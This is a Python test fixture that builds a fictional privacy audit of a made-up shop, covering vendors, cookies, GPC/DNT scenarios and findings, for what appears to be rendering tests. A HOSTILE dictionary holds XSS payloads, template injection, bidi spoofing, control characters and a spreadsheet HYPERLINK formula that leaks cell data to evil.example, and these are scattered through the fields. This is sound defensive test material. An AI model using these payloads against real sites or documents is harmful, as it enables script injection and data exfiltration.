"""An audit document made by hand: every verdict, every kind of row, and strings of a hostile site. No real site is meant."""

from __future__ import annotations

from itertools import cycle
from typing import Any

from policywitness.model import audit as a
from policywitness.model.vocabulary import (
    Category,
    ClaimVerdict,
    Confidence,
    DisclosureVerdict,
    DocumentKind,
    Label,
    Outcome,
    Party,
    Phase,
    Promise,
    RequirementVerdict,
    Response,
    Severity,
    Signal,
    Specificity,
    Stance,
    Status,
    StorageKind,
    Testability,
)

SCENARIOS = ("baseline", "gpc", "dnt", "gpc-dnt", "cookies-blocked", "third-party-cookies-blocked")
REPEATS = 3
PAGES = ("/", "/products", "/blog", "/contact", "/careers", "/media", "/login", "/privacy")
START = "https://www.fictional-shop.example"
SCREENSHOT = "screenshots/baseline-1-0.png"

HOSTILE = {
    "script": "<script>document.title='owned'</script><img src=https://evil.example/x onerror=alert(1)>",
    "bidi": "invoice\u202egpj.exe\u200b\u2066x\u2069",
    "control": "bell\x07null\x00escape\x1b[31m\x85",
    "formula": '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "template": "{{ 7 * 7 }}{% for x in range(9) %}{{ self.__init__ }}{% endfor %}",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "closing": "</script></style></title></textarea>--><svg onload=alert(1)>",
    "markdown": "|a|b|\n[click](javascript:alert(1)) `code` <b>",
    "long": "A" * 1_000_000,
}


def share(**seen: int) -> dict[str, a.Share]:
    """Shares of all scenarios; those not named were seen in every visit. Names with `_` for `-`."""
    return {name: a.Share(seen=seen.get(name.replace("-", "_"), REPEATS), of=REPEATS) for name in SCENARIOS}


def quote(
    text: str, line: int, section: tuple[str, ...] = ("Cookies and tracking",), disclosure: str | None = None
) -> a.QuoteRef:
    return a.QuoteRef(
        document="policy-1",
        section=section,
        start=line * 100,
        end=line * 100 + len(text),
        line=line,
        text=text,
        disclosure=disclosure,
    )


def evidence(text: str, scenario: str = "gpc", file: str = "requests.jsonl", t_ms: int = 412) -> a.EvidenceRef:
    return a.EvidenceRef(
        file=file,
        id=f"{scenario}-1:r{t_ms}",
        visit_id=f"{scenario}-1",
        scenario=scenario,
        page_url=START + "/",
        t_ms=t_ms,
        text=text,
    )


QUOTES = (
    (
        "We honor the Global Privacy Control signal as a request to opt out of the sale of your data.",
        "gpc.response",
        Stance.AFFIRM,
    ),
    ("We do not use session replay tools on our site.", "tech.session_replay", Stance.DENY),
    ("We may use cookies and similar technologies to remember your preferences.", "tech.cookies", Stance.MAY),
    ("We use Google Analytics to understand how visitors use our services.", "party.named", Stance.AFFIRM),
    ("Our cookies expire after no more than 12 months.", "retention.cookies", Stance.AFFIRM),
    (
        "We do not share your information with third parties unless you opt in.",
        "sharing.third_parties",
        Stance.DENY_UNLESS,
    ),
    ("We encrypt personal data at rest.", "security.encryption", Stance.AFFIRM),
    ("If you are a California resident, you may ask us to delete your data.", "rights.delete", Stance.CONDITIONAL),
    ("To opt out of interest-based advertising, visit the preference page.", "optout.tool", Stance.INSTRUCT),
    ("“Service providers” are companies that process data on our behalf.", "party.service_providers", Stance.DEFINE),
    ("We may embed maps of partners on location pages.", "party.maps", Stance.MAY),
    ("Visitors who log in see personalised offers.", "purpose.personalisation", Stance.AFFIRM),
    ("Our mobile app collects the advertising identifier of your device.", "data.device_id", Stance.AFFIRM),
)


def disclosures() -> tuple[a.DisclosureInfo, ...]:
    specificities = cycle(Specificity)
    testabilities = cycle(Testability)
    sections = cycle((("Cookies and tracking",), ("Cookies and tracking", "Signals"), ("Your choices",), ()))
    return tuple(
        a.DisclosureInfo(
            id=f"d{number:02}",
            concept=concept,
            value="google" if concept == "party.named" else None,
            stance=stance,
            actor="we",
            specificity=next(specificities),
            testability=next(testabilities),
            scope="California" if number == 8 else None,
            condition="you are a California resident" if stance is Stance.CONDITIONAL else None,
            exception="you opt in" if stance is Stance.DENY_UNLESS else None,
            context=("analytics",) if number == 4 else (),
            quote=quote(text, 10 + number * 3, next(sections), f"d{number:02}"),
            rule=concept,
        )
        for number, (text, concept, stance) in enumerate(QUOTES, 1)
    )


CLAIMS = (
    (
        0,
        ClaimVerdict.CONTRADICTED,
        "Meta and an ad exchange were contacted as if no signal had been sent.",
        ("ignored", "contradicted"),
    ),
    (1, ClaimVerdict.CONTRADICTED, "Hotjar recorded the session and uploaded it.", ("contradicted", "contradicted")),
    (4, ClaimVerdict.CONTRADICTED, "A cookie of Meta lasts 13 months.", ("contradicted", "contradicted")),
    (5, ClaimVerdict.INCONCLUSIVE, "Repeated visits disagree.", ("inconclusive", "inconclusive")),
    (2, ClaimVerdict.SUPPORTED, "14 cookies were set in each visit.", ("supported", "supported")),
    (3, ClaimVerdict.SUPPORTED, "Requests to Google Analytics were seen on each page.", ("supported", "reduced")),
    (
        10,
        ClaimVerdict.NOT_OBSERVED,
        "No map was seen on the pages that were visited.",
        ("not-observed", "not-observed"),
    ),
    (11, ClaimVerdict.NOT_TESTED, "Nobody logged in.", ("not-tested", "not-tested")),
    (
        6,
        ClaimVerdict.NOT_VERIFIABLE,
        "Encryption at rest cannot be seen from outside.",
        ("not-verifiable", "not-verifiable"),
    ),
    (12, ClaimVerdict.OUT_OF_SCOPE, "The sentence is about an app.", ("out-of-scope", "out-of-scope")),
)


def claims() -> tuple[a.ClaimInfo, ...]:
    readings = disclosures()
    made = []
    for number, (index, verdict, reason, (first, other)) in enumerate(CLAIMS, 1):
        cells = {
            name: a.Cell(word=other if "gpc" in name else first, text=f"{2 + number} of 9 vendors; {reason}")
            for name in SCENARIOS
        }
        if verdict is ClaimVerdict.CONTRADICTED:
            cells["gpc"] = a.Cell(word=first, text="4 vendors contacted in 3 of 3 visits", findings=("f-gpc-0001",))
            cells["cookies-blocked"] = a.Cell(word="not-assessed", text="No cookie could be set in this scenario.")
        reading = readings[index]
        made.append(
            a.ClaimInfo(
                id=f"c{number:02}",
                disclosure=reading.id,
                concept=reading.concept,
                value=reading.value,
                title=reading.concept,
                quote=reading.quote,
                testability=reading.testability,
                verdict=verdict,
                confidence=Confidence.HIGH,
                reason=reason,
                cells=cells if verdict not in (ClaimVerdict.NOT_VERIFIABLE, ClaimVerdict.OUT_OF_SCOPE) else {},
                evidence=(evidence("GET https://connect.meta.example/tr"),),
                findings=("f-gpc-0001",) if verdict is ClaimVerdict.CONTRADICTED else (),
            )
        )
    return tuple(made)


def finding(
    number: int, rule: str, title: str, severity: Severity, status: Status = Status.ISSUE, **more: Any
) -> a.Finding:
    values: dict[str, Any] = {
        "fingerprint": f"f-{rule.split('-')[0]}-{number:04}",
        "rule": rule,
        "title": title,
        "status": status,
        "severity": severity,
        "confidence": Confidence.HIGH,
        "subject": "meta",
        "summary": "Seen in 3 of 3 visits. The policy promises the opposite in the sentence that is quoted here.",
        "why_it_matters": "Visitors who send the signal have opted out by law in several states. Contacting an advertising company anyway "
        "breaks the promise and may break the law.",
        "what_to_do": "Make the tag manager read the signal before it loads advertising tags.",
        "how_to_reproduce": f"policywitness audit {START} --scenario gpc --repeats 3",
        "scenarios": ("baseline", "gpc"),
        "evidence": (evidence("GET https://connect.meta.example/tr?id=1&ev=PageView"),),
    }
    values.update(more)
    return a.Finding(**values)


def findings() -> tuple[a.Finding, ...]:
    readings = disclosures()
    table = a.FindingTable(
        columns=("vendor", "host", "baseline", "gpc", "bytes sent"),
        rows=(
            ("Meta Pixel", "connect.meta.example", "3 of 3 visits", "3 of 3 visits", "1,204"),
            ("Adnexio", "ib.adnexio.example", "3 of 3 visits", "3 of 3 visits", "880"),
            (HOSTILE["script"], HOSTILE["bidi"], HOSTILE["control"], HOSTILE["formula"], "12"),
        ),
        more=4,
    )
    return (
        finding(
            1,
            "gpc-advertising-requests",
            "Advertising companies are contacted although the visitor opted out",
            Severity.CRITICAL,
            table=table,
            quotes=(readings[0].quote,),
            law=("ccpa-7025",),
            change="new",
            first_seen="2026-11-23T03:35:41Z",
        ),
        finding(
            2,
            "contradicted-claim",
            "A session recorder runs, and the policy says that none is used",
            Severity.SERIOUS,
            subject="hotjar",
            quotes=(readings[1].quote,),
            table=table,
        ),
        finding(
            3,
            "undisclosed-vendor",
            "Adnexio receives visits and is not in the policy",
            Severity.SERIOUS,
            subject="adnexio",
            change="unchanged",
        ),
        finding(
            9,
            "undisclosed-vendor",
            "Adnexio receives visits and is not in the policy",
            Severity.SERIOUS,
            subject="partner-dsp.example",
            summary="A partner of Adnexio receives visits too.",
            quotes=(readings[2].quote,),
        ),
        finding(
            4,
            "long-lived-cookie",
            f"Cookie {HOSTILE['script']} lasts 400 days",
            Severity.MODERATE,
            subject=HOSTILE["attribute"],
            summary=HOSTILE["template"],
            quotes=(quote(HOSTILE["closing"], 99),),
            confidence=Confidence.MEDIUM,
        ),
        finding(
            5,
            "third-party-identifier",
            "An identifier is handed to another company",
            Severity.MODERATE,
            Status.NEEDS_REVIEW,
            confidence=Confidence.LOW,
        ),
        finding(
            6, "stale-policy", "The policy is older than 12 months", Severity.MINOR, how_to_reproduce="", evidence=()
        ),
        finding(
            7, "disclosed-not-observed", "A company in the policy was not seen", Severity.INFO, Status.NEEDS_REVIEW
        ),
        finding(
            8,
            "cookie-before-choice",
            "A cookie is set before any choice",
            Severity.SERIOUS,
            waived=True,
            waiver={
                "reason": "Accepted until the banner is replaced",
                "owner": "legal@fictional-shop.example",
                "expires": "2027-01-31",
            },
        ),
    )


VENDORS = (
    ("meta", "Meta Pixel", "Meta Platforms", Category.ADVERTISING, DisclosureVerdict.VAGUE, "ignored"),
    ("adnexio", "Adnexio Exchange", "Adnexio Ltd", Category.ADVERTISING, DisclosureVerdict.OMITTED, "ignored"),
    (
        "linkedin-insight",
        "LinkedIn Insight Tag",
        "Microsoft",
        Category.ADVERTISING,
        DisclosureVerdict.CONTEXT_MISMATCH,
        "honored",
    ),
    ("google-analytics", "Google Analytics", "Google", Category.ANALYTICS, DisclosureVerdict.CLEAR, "restricted"),
    ("hotjar", "Hotjar", "Hotjar Ltd", Category.ANALYTICS, DisclosureVerdict.CONTRADICTED, "inconclusive"),
    ("clarity", "Microsoft Clarity", "Microsoft", Category.ANALYTICS, DisclosureVerdict.AMBIGUOUS, "reduced"),
    ("gtm", "Google Tag Manager", "Google", Category.FUNCTIONAL, DisclosureVerdict.NOT_ANALYSED, "not-assessed"),
    ("unknown:cdn-edge.example", "cdn-edge.example", None, Category.UNKNOWN, DisclosureVerdict.OMITTED, "not-assessed"),
)


def vendors() -> tuple[a.VendorInfo, ...]:
    made = []
    for number, (vendor, name, operator, category, disclosure, response) in enumerate(VENDORS):
        seen = share(gpc=0, gpc_dnt=0) if response == "honored" else share()
        made.append(
            a.VendorInfo(
                id=vendor,
                name=name,
                operator=operator,
                category=category,
                kinds=("pixel", "tag"),
                hosts=(f"{vendor.split(':')[-1]}.example",),
                account_ids=("UA-1",),
                reasons=("host",),
                confidence=Confidence.HIGH,
                requests=240 - number * 17,
                cookies=number % 4,
                loaded_by=("gtm",) if number not in (6, 7) else ("fictional-shop.example",),
                first_seen_ms=300 + number * 90,
                before_choice=True,
                scenarios=seen,
                requests_per_visit=dict.fromkeys(SCENARIOS, 12.5),
                responses={name: Response(response) for name in SCENARIOS[1:4]},
                response_reasons=dict.fromkeys(SCENARIOS[1:4], f"{vendor}: 12.5 requests per visit against 12.3"),
                disclosure=disclosure,
                disclosure_reason="Named in no sentence of the policy.",
                quotes=(),
                evidence=(evidence("GET"),),
            )
        )
    return tuple(made)


def cookies() -> tuple[a.CookieInfo, ...]:
    names = ("_ga", "_ga_*", "_fbp", "uuid2", "li_gc", "_hjSession_*", "consent", *HOSTILE.values())
    verdicts = cycle(DisclosureVerdict)
    categories = cycle(Category)
    return tuple(
        a.CookieInfo(
            name=name,
            domain=".fictional-shop.example" if number % 3 else ".ib.adnexio.example",
            path="/",
            party=Party.FIRST if number % 3 else Party.THIRD,
            vendor=VENDORS[number % len(VENDORS)][0],
            category=next(categories),
            purpose=HOSTILE["markdown"] if number == 5 else "tells visitors apart",
            set_by="www.googletagmanager.example/gtm.js",
            how=("js",),
            asked_lifetime_s=63_072_000,
            granted_lifetime_s=(0, 1_800, 34_560_000, None)[number % 4],
            declared_lifetime_s=31_536_000,
            http_only=number % 2 == 0,
            secure=True,
            same_site="Lax",
            partitioned=number == 3,
            identifier=number % 2 == 1,
            before_choice=True,
            blocked={"third-party-cookies-blocked": ("ThirdPartyPhaseout",)} if number == 3 else {},
            scenarios=share(cookies_blocked=0),
            disclosure=next(verdicts),
            evidence=(evidence("Set-Cookie", file="cookies.jsonl"),),
        )
        for number, name in enumerate(names)
    )


def flows() -> tuple[a.FlowInfo, ...]:
    site = "fictional-shop.example"
    arrows = [(site, "gtm", "loads", 48), (site, "unknown:cdn-edge.example", "loads", 96)]
    arrows += [("gtm", vendor[0], "loads", 24) for vendor in VENDORS[:6]]
    arrows += [
        ("meta", site, "sets-cookie", 24),
        ("meta", "adnexio", "syncs", 12),
        ("adnexio", "linkedin-insight", "syncs", 6),
        ("adnexio", "partner-dsp.example", "syncs", 6),
        (site, "meta", "sends-identifier", 30),
        ("partner-dsp.example", HOSTILE["closing"], "loads", 1),
    ]
    return tuple(
        a.FlowInfo(source=s, target=t, kind=k, count=n, detail="uuid2 as ⟨h:9f2c⟩" if k == "syncs" else "")
        for s, t, k, n in arrows
    )


def differences() -> tuple[a.DifferenceInfo, ...]:
    base = {
        "requests to third parties": (112.0, 118.0, 115.0),
        "vendors": (8.0, 8.0, 8.0),
        "third-party cookies kept": (9.0, 9.0, 11.0),
    }
    factors = {"gpc": 0.82, "dnt": 1.0, "gpc-dnt": 0.8, "cookies-blocked": 0.9, "third-party-cookies-blocked": 0.95}
    return tuple(
        a.DifferenceInfo(
            scenario=name,
            against="baseline",
            signal_delivered={"gpc": True, "dnt": True, "gpc-dnt": False}.get(name),
            measures=tuple(
                a.Measure(
                    name=key, values=tuple(round(v * factor) + i for i, v in enumerate(values)), against_values=values
                )
                for key, values in base.items()
            ),
            gone=("linkedin-insight",) if "gpc" in name else (),
            stayed=tuple(v[0] for v in VENDORS if v[0] != "linkedin-insight"),
            new=("partner-dsp.example",) if name == "dnt" else (),
        )
        for name, factor in factors.items()
    )


def visits() -> tuple[a.VisitInfo, ...]:
    made = []
    for repeat in range(1, REPEATS + 1):
        for scenario in SCENARIOS:
            failed = scenario == "dnt" and repeat == 2
            outcome = Outcome.PARTIAL if failed else Outcome.COMPLETE
            pages = tuple(
                a.PageInfo(
                    url=START + path,
                    final_url=START + path,
                    t_ms=number * 2_000,
                    duration_ms=1_800 + number * 31,
                    status=None if failed and number == 7 else 200,
                    title=HOSTILE["bidi"] if number == 2 else f"Fictional Shop {path}",
                    outcome=Outcome.FAILED
                    if failed and number == 7
                    else Outcome.BLOCKED
                    if failed and number == 6
                    else Outcome.COMPLETE,
                    reason="the connection was reset" if failed and number == 7 else None,
                    screenshot=SCREENSHOT if (scenario, repeat, number) == ("baseline", 1, 0) else None,
                )
                for number, path in enumerate(PAGES)
            )
            made.append(
                a.VisitInfo(
                    visit_id=f"{scenario}-{repeat}",
                    scenario=scenario,
                    repeat=repeat,
                    outcome=outcome,
                    reason="2 of 8 pages were not reached" if failed else None,
                    started_at="2026-11-23T03:32:05Z",
                    ended_at="2026-11-23T03:32:31Z",
                    pages=pages,
                    passport={
                        "browser": "Chromium 152.0",
                        "headless": True,
                        "locale": "en-US",
                        "webdriver": False,
                        "switches": ["--no-first-run", "--disable-sync"],
                        "viewport": [1366, 900],
                        "cookies": "block" if scenario == "cookies-blocked" else "allow",
                    },
                )
            )
    return tuple(made)


def coverage() -> a.Coverage:
    rows = []
    for visit in visits():
        signals = {
            signal: {"method": "native", "sent": 410, "possible": 412, "contexts": {"window": True, "worker": True}}
            for signal in ("gpc", "dnt")
            if signal in visit.scenario
        }
        partial = visit.outcome is Outcome.PARTIAL
        rows.append(
            a.VisitCoverage(
                visit_id=visit.visit_id,
                scenario=visit.scenario,
                recorded=412,
                requested=None if partial else 413,
                share=None if partial else 412 / 413,
                missed=() if partial else (f"{START}/late.gif?{HOSTILE['attribute']}",),
                pages_planned=8,
                pages_reached=6 if partial else 8,
                signal_delivery=signals,
            )
        )
    return a.Coverage(
        share=0.944,
        pages_planned=144,
        pages_reached=142,
        visits_planned=18,
        visits_complete=17,
        problems=("dnt-2: /privacy was not reached: the connection was reset",),
        visits=tuple(rows),
    )


def rules() -> tuple[a.RuleOutcome, ...]:
    statuses = cycle(Status)
    severities = cycle(Severity)
    others = ("dnt-response", "missing-signal-disclosure", "undisclosed-technology", "broken-rule")
    names = dict.fromkeys((*(f.rule for f in findings()), *others))
    return tuple(
        a.RuleOutcome(
            id=name,
            title=name.replace("-", " ").capitalize(),
            severity=next(severities),
            topics=("gpc",),
            law=("ccpa-7025",),
            needs=("scenario gpc", "records requests"),
            outcome=next(statuses),
            reason="3 of 3 visits",
            findings=1,
            why_it_matters="Because a promise counts.",
            what_to_do="Keep it.",
        )
        for name in names
    )


def documents() -> tuple[a.DocumentInfo, ...]:
    common = {
        "found_by": "link in the footer",
        "fetched_at": "2026-11-23T03:32:03Z",
        "sha256": "ab" * 32,
        "effective_date": None,
    }
    return (
        a.DocumentInfo(
            id="policy-1",
            url=START + "/privacy",
            kind=DocumentKind.PRIVACY_POLICY,
            title="Privacy Policy",
            lang="en",
            words=5210,
            last_updated="2024-03-01",
            analysed=True,
            reason=None,
            sections=tuple(
                a.SectionInfo(path=path, start=n * 900, end=n * 900 + 800, words=140)
                for n, path in enumerate((("Cookies and tracking",), ("Contact us",), (HOSTILE["script"],)))
            ),
            **common,
        ),
        a.DocumentInfo(
            id="policy-2",
            url=START + "/datenschutz",
            kind=DocumentKind.COOKIE_POLICY,
            title=HOSTILE["script"],
            lang="de",
            words=880,
            last_updated=None,
            analysed=False,
            reason="the document is in German (de); only English is read",
            **common,
        ),
    )


def summary() -> a.SummaryInfo:
    return a.SummaryInfo(
        sentence="The site does not keep its promise to honor opt-out signals: two advertisers are contacted all the same.",
        completeness="partial",
        completeness_text="2 of 144 page loads failed in one visit; all conclusions rest on the other 17 visits.",
        top_findings=("f-gpc-0001", "f-contradicted-0002", "f-undisclosed-0003"),
        issues={"critical": 1, "serious": 2, "moderate": 1, "minor": 1},
        statuses={"issue": 5, "needs-review": 2},
        limits=("Nobody logged in: pages behind a login were not visited.", "The German cookie policy was not read."),
    )


def frames() -> tuple[a.FrameInfo, ...]:
    return (
        a.FrameInfo(
            host="video.example",
            party=Party.THIRD,
            vendor="unknown:cdn-edge.example",
            cross_site=True,
            pages=2,
            urls=5,
            scenarios=share(),
        ),
    )


def calls() -> tuple[a.CallInfo, ...]:
    return tuple(
        a.CallInfo(
            api=api,
            script_host="hotjar.example",
            party=Party.THIRD,
            vendor="hotjar",
            count=40 * n,
            pages=n,
            scenarios=share(),
        )
        for n, api in enumerate(("navigator.globalPrivacyControl", HOSTILE["script"]), 1)
    )


SITE = "fictional-shop.example"
MOMENTS = (
    (300, Phase.LOAD, "request", "gtm", "www.googletagmanager.example"),
    (310, Phase.LOAD, "signal-read", "gtm", "navigator.globalPrivacyControl"),
    (420, Phase.LOAD, "request", "meta", "connect.meta.example"),
    (430, Phase.LOAD, "cookie", "meta", f"_fbp, {HOSTILE['closing']}"),
    (500, Phase.LOAD, "storage", SITE, HOSTILE["bidi"]),
    (900, Phase.LOAD, "banner", SITE, "div#banner"),
    (1_400, Phase.CHOICE, "choice", SITE, "reject"),
    (1_800, Phase.AFTER_CHOICE, "request", "adnexio", "ib.adnexio.example"),
)


def timelines() -> tuple[a.TimelineInfo, ...]:
    """An ordinary visit, one in which nothing happened, and one that refuses."""
    return (_timeline("baseline", None, 6), _timeline("gpc", None, 0), _timeline("dnt", "reject", 8))


def _timeline(scenario: str, choice: str | None, count: int) -> a.TimelineInfo:
    return a.TimelineInfo(
        visit_id=f"{scenario}-1",
        scenario=scenario,
        repeat=1,
        banner_ms=900 if count else None,
        choice=choice,
        choice_ms=1_400 if choice else None,
        choice_proved=True if choice else None,
        entries=tuple(
            a.TimelineEntry(
                t_ms=t_ms,
                phase=phase,
                before_choice=phase is not Phase.AFTER_CHOICE,
                kind=kind,
                party=party,
                text=words,
                count=3,
                page_url=START + "/",
                evidence=evidence(words, scenario, t_ms=t_ms),
            )
            for t_ms, phase, kind, party, words in MOMENTS[:count]
        ),
        more=2 if choice else 0,
    )


def consent() -> a.ConsentInfo:
    return a.ConsentInfo(
        asked=True,
        clicks_to_accept=1,
        clicks_to_reject=None,
        banners=(),
        observations=(
            a.BannerObservation(
                what="reject-missing",
                element="div#banner",
                label=HOSTILE["script"],
                beside=None,
                reasons=("no control refuses",),
                layer=1,
                page_url=START,
                screenshot=None,
                scenarios=share(),
            ),
        ),
        choices=(
            a.ChoiceInfo(
                scenario="dnt",
                choice="reject",
                proved=a.Share(seen=1, of=3),
                clicks=(2,),
                via=("settings",),
                strengths=("string",),
                reasons=("the banner is gone",),
            ),
        ),
        strings=(
            a.ConsentStringInfo(
                format="tcf",
                moment="after",
                where="cookie",
                name="euconsent-v2",
                value=None,
                granted=("storage",),
                denied=("advertising",),
                fields={},
                scenarios=share(),
            ),
        ),
    )


def removals() -> tuple[a.RemovalInfo, ...]:
    return (
        a.RemovalInfo(
            vendor="gtm",
            loaded_by=("fictional-shop.example",),
            recipients=("ib.adnexio.example",),
            vendors=("meta", "adnexio"),
            cookies=(f"{HOSTILE['closing']} (.fictional-shop.example)",),
        ),
    )


def waivers() -> tuple[a.WaiverInfo, ...]:
    return tuple(
        a.WaiverInfo(
            rule="cookie-before-choice",
            match=HOSTILE["attribute"],
            reason="until the banner is replaced",
            owner="legal",
            expires="2027-01-31",
            state=state,
            findings=("f-cookie-0008",) if state == "active" else (),
        )
        for state in ("active", "expired", "unused")
    )


def history() -> tuple[a.PastRun, ...]:
    return tuple(
        a.PastRun(
            run_id=f"2026{month:02}01T0300Z-ab{month:02}",
            ended_at=f"2026-{month:02}-01T03:05:00Z",
            tool_version="0.1.0",
            completeness="complete",
            issues={"serious": 12 - month, "minor": month},
            vendors=5 + month,
            undisclosed=2,
            contradicted=3,
            cookies=20 + month,
        )
        for month in range(5, 11)
    )


def changes_since() -> a.ChangesInfo:
    fixed = a.FixedFinding(
        fingerprint="f-old-0001",
        rule="stale-policy",
        title=HOSTILE["markdown"],
        severity=Severity.MINOR,
        subject="policy-1",
    )
    return a.ChangesInfo(
        against="20261001T0300Z-ab10",
        against_ended_at="2026-10-01T03:05:00Z",
        new=("f-gpc-0001",),
        returned=(),
        unchanged=("f-undisclosed-0003",),
        fixed=(fixed,),
        vendors_new=("adnexio",),
        vendors_gone=("gone.example",),
    )


def sample(**changes: Any) -> a.Audit:
    """The audit; `changes` replace whole fields."""
    readings = disclosures()
    values: dict[str, Any] = {
        "site": a.SiteInfo(
            name="Fictional Shop",
            start_url=START + "/",
            registrable_domain="fictional-shop.example",
            first_party=("fictional-shop.example",),
            profile={"jurisdictions": ["US-CA"]},
        ),
        "provenance": a.Provenance(
            tool_version="0.1.0",
            run_id="20261123T033200Z-k3fa",
            as_of="2026-11-23",
            started_at="2026-11-23T03:32:00Z",
            ended_at="2026-11-23T03:35:41Z",
            browser="Chromium 152.0.7790.3",
            user_agent="Mozilla/5.0 (X11; Linux x86_64) Chrome/152",
            locale="en-US",
            timezone="America/New_York",
            authorised_by=None,
            inputs={"catalogue": "cd" * 32, "evidence": "ef" * 32},
            sources=(
                a.SourceInfo(
                    id="known_trackers",
                    title="Catalogue of known trackers",
                    version="2026.11",
                    date="2026-11-20",
                    licence="Apache-2.0",
                    entries=30,
                ),
                a.SourceInfo(
                    id="/lists/mine.txt",
                    title="A filter list",
                    version="7",
                    date=None,
                    licence="CC BY-NC-SA 4.0",
                    entries=2,
                    notice="Chosen by whoever ran this audit.",
                ),
            ),
        ),
        "summary": summary(),
        "scenarios": tuple(
            a.ScenarioInfo(
                name=name,
                title=name.replace("-", " "),
                against=None if name == "baseline" else "baseline",
                visits=3,
                complete=2 if name == "dnt" else 3,
            )
            for name in SCENARIOS
        ),
        "visits": visits(),
        "coverage": coverage(),
        "documents": documents(),
        "disclosures": readings,
        "signals": (
            a.SignalInfo(signal=Signal.GPC, promise=Promise.HONORED, quote=readings[0].quote),
            a.SignalInfo(signal=Signal.DNT, promise=Promise.SILENT, quote=None),
        ),
        "declared_cookies": (
            a.DeclaredCookieInfo(
                name="_ga",
                provider="Google",
                category="analytics",
                purpose="statistics",
                lifetime_s=63_072_000,
                lifetime_text="2 years",
                seen=True,
                quote=quote("_ga 2 years", 80),
            ),
        ),
        "dangling": (a.DanglingInfo(quote=quote("click here", 81), reason="“here” has no link"),),
        "claims": claims(),
        "requirements": tuple(
            a.RequirementInfo(
                id=f"ccpa-{verdict}",
                law="ccpa-7025",
                text="How to opt out of sale or sharing",
                verdict=verdict,
                reason="Read in section 4",
            )
            for verdict in RequirementVerdict
        ),
        "vendors": vendors(),
        "technologies": tuple(
            a.TechnologyInfo(
                id=f"tech-{verdict}",
                name=f"Technology {verdict}",
                count=3,
                scenarios=share(),
                disclosure=verdict,
                disclosure_reason="The policy speaks of “similar technologies”.",
                quotes=(),
                evidence=(),
            )
            for verdict in DisclosureVerdict
        ),
        "cookies": cookies(),
        "storage": tuple(
            a.StorageInfo(
                kind=kind,
                origin=START,
                key=key,
                party=Party.FIRST,
                vendor="hotjar",
                set_by="hotjar.js",
                value_bytes=1234,
                identifier=True,
                scenarios=share(),
            )
            for kind, key in zip(StorageKind, HOSTILE.values(), strict=False)
        ),
        "beacons": (
            a.BeaconInfo(
                kind="pixel",
                host="connect.meta.example",
                path="/tr",
                method="GET",
                vendor="meta",
                party=Party.THIRD,
                count=48,
                phases=("load", "leave"),
                scenarios=share(),
                evidence=(evidence("GET /tr"),),
            ),
        ),
        "recipients": tuple(
            a.RecipientInfo(
                host=f"{v[0].split(':')[-1]}.example",
                domain=f"{v[0].split(':')[-1]}.example",
                vendor=v[0],
                category=v[3],
                requests=96,
                resource_types=("script", "image"),
                loaded_by=("gtm",),
                identifiers=True,
                scenarios=share(),
            )
            for v in VENDORS
        ),
        "listed": (
            a.ListedInfo(
                list="A filter list",
                rule="||connect.meta.example^$third-party",
                exception=None,
                host="connect.meta.example",
                vendor="meta",
                party=Party.THIRD,
                requests=48,
                scenarios=share(),
                evidence=(evidence("GET /tr"),),
            ),
        ),
        "scripts": (
            a.ScriptInfo(
                url="https://gtm.example/gtm.js?id=GTM-1",
                host="gtm.example",
                sha256="12" * 32,
                bytes=104_233,
                party=Party.THIRD,
                vendor="gtm",
                inline=False,
                integrity=False,
                loaded_by="fictional-shop.example",
                pages=8,
                scenarios=share(),
            ),
            a.ScriptInfo(
                url=None,
                host=None,
                sha256="34" * 32,
                bytes=812,
                party=Party.FIRST,
                vendor=None,
                inline=True,
                integrity=False,
                loaded_by=None,
                pages=8,
                scenarios=share(),
            ),
        ),
        "flows": flows(),
        "labels": tuple(
            a.LabelInfo(label=label, host="hotjar.example", text="seen on /contact", evidence=(evidence("call"),))
            for label in Label
        ),
        "differences": differences(),
        "findings": findings(),
        "rules": rules(),
        "law": (
            a.LawInfo(
                id="ccpa-7025",
                title="Opt-out preference signals",
                jurisdiction="California",
                text="A business treats the signal as an opt-out.",
                citation="Cal. Code Regs. tit. 11, section 7025",
                source="https://law.example/7025",
                checked_on="2026-11-01",
            ),
        ),
        "manifest": tuple(
            a.FileInfo(path=f"evidence/{name}.jsonl", bytes=120_000 + i, sha256=f"{i:02x}" * 32)
            for i, name in enumerate(("visits", "requests", "cookies", "storage", "scripts"))
        ),
        "manifest_sha256": "9f" * 32,
        "frames": frames(),
        "calls": calls(),
        "timelines": timelines(),
        "changes": changes_since(),
        "history": history(),
        "consent": consent(),
        "removals": removals(),
        "waivers": waivers(),
    }
    return a.Audit(**(values | changes))


def empty() -> a.Audit:
    """The start page could not be reached: nothing was seen, no policy was found."""
    base = sample()
    blank: tuple[str, ...] = (
        "visits",
        "documents",
        "disclosures",
        "signals",
        "declared_cookies",
        "dangling",
        "claims",
        "requirements",
        "vendors",
        "technologies",
        "cookies",
        "storage",
        "beacons",
        "recipients",
        "listed",
        "scripts",
        "flows",
        "labels",
        "differences",
        "findings",
        "rules",
        "law",
        "manifest",
        "frames",
        "calls",
        "timelines",
        "history",
        "removals",
        "waivers",
    )
    summary_ = base.summary.model_copy(
        update={
            "sentence": "The start page could not be reached.",
            "completeness": "blocked",
            "top_findings": (),
            "issues": {},
            "statuses": {},
        }
    )
    coverage_ = base.coverage.model_copy(update={"visits": (), "visits_complete": 0, "pages_reached": 0, "share": 0.0})
    return sample(
        summary=summary_,
        coverage=coverage_,
        scenarios=base.scenarios[:1],
        changes=None,
        consent=None,
        **dict.fromkeys(blank, ()),
    )
